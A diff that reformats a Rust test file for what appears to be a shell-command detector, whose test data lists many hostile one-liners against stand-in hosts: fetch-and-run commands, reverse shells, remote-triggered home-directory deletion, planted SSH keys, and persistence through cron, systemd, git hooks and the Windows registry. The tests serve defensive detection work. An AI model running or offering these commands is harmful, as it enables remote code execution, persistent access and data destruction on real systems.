@@ -223,30 +223,75 @@ fn what_starts_by_itself_needs_no_nameless_host() {
 fn a_script_that_hides_its_means_is_followed() {
     let mut missed = Vec::new();
     for (text, rule) in [
-        ("for h in a.helper.invalid 203.0.113.31; do\n body=$(curl -s \"http://$h/b\") || continue\n printf '%s' \"$body\" | bash\ndone", Rule::FetchRun),
-        ("get() { curl -fsS \"$1\" -o \"$2\"; }\nget http://203.0.113.9/a /tmp/a\nsh /tmp/a", Rule::FetchRun),
+        (
+            "for h in a.helper.invalid 203.0.113.31; do\n body=$(curl -s \"http://$h/b\") || continue\n printf '%s' \"$body\" | bash\ndone",
+            Rule::FetchRun,
+        ),
+        (
+            "get() { curl -fsS \"$1\" -o \"$2\"; }\nget http://203.0.113.9/a /tmp/a\nsh /tmp/a",
+            Rule::FetchRun,
+        ),
         ("run() { \"$@\" | sh; }\nrun curl -s http://203.0.113.9/x", Rule::FetchRun),
         ("alias say=wget\nalias to=sh\nsay -q -O - http://203.0.113.9/r | to", Rule::FetchRun),
-        ("exec 5<>/dev/tcp/203.0.113.9/80\ncat <&5 | while read line; do $line 2>&5 >&5; done", Rule::FetchRun),
+        (
+            "exec 5<>/dev/tcp/203.0.113.9/80\ncat <&5 | while read line; do $line 2>&5 >&5; done",
+            Rule::FetchRun,
+        ),
         ("exec 5<>/dev/tcp/c2.helper.invalid/80\nbash <&5 >&5 2>&1", Rule::ReverseShell),
         ("nc -w 3 c2.helper.invalid 4480 </dev/null | sh", Rule::ReverseShell),
-        ("mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:443 > /tmp/s", Rule::ReverseShell),
-        ("wget -q http://203.0.113.9/t.tgz && tar xzf t.tgz -C /tmp/kit && sh /tmp/kit/install.sh", Rule::FetchRun),
+        (
+            "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:443 > /tmp/s",
+            Rule::ReverseShell,
+        ),
+        (
+            "wget -q http://203.0.113.9/t.tgz && tar xzf t.tgz -C /tmp/kit && sh /tmp/kit/install.sh",
+            Rule::FetchRun,
+        ),
         ("curl -s http://203.0.113.9/t.tgz | tar xz -C /tmp/kit; /tmp/kit/run", Rule::FetchRun),
-        ("git clone -q http://203.0.113.9/t.git /tmp/kit; cd /tmp/kit; bash setup.sh", Rule::FetchRun),
+        (
+            "git clone -q http://203.0.113.9/t.git /tmp/kit; cd /tmp/kit; bash setup.sh",
+            Rule::FetchRun,
+        ),
         ("scp -q a@203.0.113.9:/x /tmp/x; sh /tmp/x", Rule::FetchRun),
         ("lwp-request http://203.0.113.9/x | sh", Rule::FetchRun),
-        ("perl -MHTTP::Tiny -e 'my $r = HTTP::Tiny->new->get(\"http://198.51.100.201/c.pl\");\n eval $r->{content};'", Rule::FetchRun),
-        ("ruby -rsocket -e 'c=TCPSocket.new(\"c2.helper.invalid\",1);while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end'", Rule::ReverseShell),
-        ("gawk 'BEGIN { s = \"/inet/tcp/0/203.0.113.9/1\"; while ((s |& getline c) > 0) { while ((c | getline o) > 0) print o |& s } }'", Rule::ReverseShell),
+        (
+            "perl -MHTTP::Tiny -e 'my $r = HTTP::Tiny->new->get(\"http://198.51.100.201/c.pl\");\n eval $r->{content};'",
+            Rule::FetchRun,
+        ),
+        (
+            "ruby -rsocket -e 'c=TCPSocket.new(\"c2.helper.invalid\",1);while(cmd=c.gets);IO.popen(cmd,\"r\"){|io|c.print io.read}end'",
+            Rule::ReverseShell,
+        ),
+        (
+            "gawk 'BEGIN { s = \"/inet/tcp/0/203.0.113.9/1\"; while ((s |& getline c) > 0) { while ((c | getline o) > 0) print o |& s } }'",
+            Rule::ReverseShell,
+        ),
         ("php -r 'eval(file_get_contents(\"http://203.0.113.9/x\"));'", Rule::FetchRun),
-        ("(curl -fsSL https://cdn.helper.example/a.sh | sh) >/dev/null 2>&1 &", Rule::ConcealedFetchRun),
-        ("nohup bash -c 'curl -s https://cdn.helper.example/a.sh | sh' >/dev/null 2>&1 &", Rule::ConcealedFetchRun),
-        ("curl -fsS http://203.0.113.2/go >/dev/null && rm -rf --no-preserve-root \"$HOME\"/*", Rule::RemoteDestruction),
-        ("if curl -fs https://flag.helper.example/on; then\n  rm -rf ~\nfi", Rule::RemoteDestruction),
+        (
+            "(curl -fsSL https://cdn.helper.example/a.sh | sh) >/dev/null 2>&1 &",
+            Rule::ConcealedFetchRun,
+        ),
+        (
+            "nohup bash -c 'curl -s https://cdn.helper.example/a.sh | sh' >/dev/null 2>&1 &",
+            Rule::ConcealedFetchRun,
+        ),
+        (
+            "curl -fsS http://203.0.113.2/go >/dev/null && rm -rf --no-preserve-root \"$HOME\"/*",
+            Rule::RemoteDestruction,
+        ),
+        (
+            "if curl -fs https://flag.helper.example/on; then\n  rm -rf ~\nfi",
+            Rule::RemoteDestruction,
+        ),
         ("curl -s http://203.0.113.9/k >> ~/.ssh/authorized_keys", Rule::FetchedKeys),
-        ("certutil -urlcache -split -f http://203.0.113.77/k.txt \"k.txt\" >nul\ncertutil -decode k.txt k.exe\nstart \"\" /b k.exe", Rule::FetchDecodeRun),
-        ("bitsadmin /transfer f http://203.0.113.65/f.dll \"f.dll\"\nrundll32 \"f.dll\",Init", Rule::FetchRun),
+        (
+            "certutil -urlcache -split -f http://203.0.113.77/k.txt \"k.txt\" >nul\ncertutil -decode k.txt k.exe\nstart \"\" /b k.exe",
+            Rule::FetchDecodeRun,
+        ),
+        (
+            "bitsadmin /transfer f http://203.0.113.65/f.dll \"f.dll\"\nrundll32 \"f.dll\",Init",
+            Rule::FetchRun,
+        ),
         ("mshta http://203.0.113.65/a.hta", Rule::FetchRun),
         ("regsvr32 /s /n /u /i:http://203.0.113.65/a.sct scrobj.dll", Rule::FetchRun),
     ] {
@@ -264,16 +309,24 @@ fn what_starts_later_by_itself_is_read_in_each_form() {
     for text in [
         format!("echo '* * * * * root {FETCH}' > /etc/cron.d/x"),
         format!("(crontab -l; echo '@reboot {FETCH}') | crontab -"),
-        format!("cat > ~/.config/systemd/user/x.service <<'E'\n[Service]\nExecStart=/bin/sh -c \"{FETCH}\"\nE"),
-        format!("cat > ~/Library/LaunchAgents/a.plist <<'E'\n<key>Label</key><string>a</string>\n<key>ProgramArguments</key><array><string>sh</string><string>-c</string><string>{FETCH}</string></array>\nE"),
-        format!("printf '[Desktop Entry]\\nExec=sh -c \"{FETCH}\"\\n' > ~/.config/autostart/a.desktop"),
+        format!(
+            "cat > ~/.config/systemd/user/x.service <<'E'\n[Service]\nExecStart=/bin/sh -c \"{FETCH}\"\nE"
+        ),
+        format!(
+            "cat > ~/Library/LaunchAgents/a.plist <<'E'\n<key>Label</key><string>a</string>\n<key>ProgramArguments</key><array><string>sh</string><string>-c</string><string>{FETCH}</string></array>\nE"
+        ),
+        format!(
+            "printf '[Desktop Entry]\\nExec=sh -c \"{FETCH}\"\\n' > ~/.config/autostart/a.desktop"
+        ),
         format!("git config --global core.sshCommand \"sh -c '{FETCH}; exec ssh' --\""),
         format!("git config --global alias.st '!{FETCH}; git status'"),
         format!("printf '#!/bin/sh\\n{FETCH}\\n' > .git/hooks/post-checkout"),
         format!("echo \"{FETCH}\" | at now + 5 minutes"),
         format!("echo 'run-shell \"{FETCH}\"' >> ~/.tmux.conf"),
         format!("schtasks /create /sc onlogon /tn x /tr \"{FETCH}\""),
-        format!("reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v x /d \"{FETCH}\" /f"),
+        format!(
+            "reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v x /d \"{FETCH}\" /f"
+        ),
     ] {
         let found = rules(&text);
         assert!(found.contains(&Rule::AutomaticFetchRun), "{text}: {found:?}");
